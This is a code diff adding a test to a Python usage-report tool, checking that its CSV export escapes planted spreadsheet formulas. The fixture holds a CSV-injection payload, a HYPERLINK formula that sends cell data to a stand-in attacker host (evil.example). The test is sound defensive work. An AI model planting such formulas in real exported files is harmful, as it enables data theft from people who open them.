@@ -111,3 +111,12 @@ def test_costs_print_with_six_decimals_and_unknowns_apart() -> None:
     assert format_cost({"cost_micro_usd": 12_345_678, "unpriced": 2}) == "12.345678 (+2 unknown)"
     assert format_cost({"cost_micro_usd": None, "unpriced": 3}) == "unknown"
     assert format_cost({"cost_micro_usd": None, "unpriced": 0}) == "0.000000"
+
+
+def test_csv_labels_a_caller_chose_never_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
+    engine = open_engine(f"sqlite:///{tmp_path / 'poolgate.db'}")
+    planted = record("f1", NOON, 10, model='=HYPERLINK("http://evil.example/?"&A1,"click")', session_id="=1+1")
+    insert_rows(engine, RECORD_FIELDS, [astuple(planted)])
+    for by, cell in (("model", "'=HYPERLINK"), ("session", "'=1+1")):
+        rows = list(csv.reader(io.StringIO(usage(tmp_path, "--format", "csv", "--by", by))))
+        assert rows[1][0].startswith(cell)
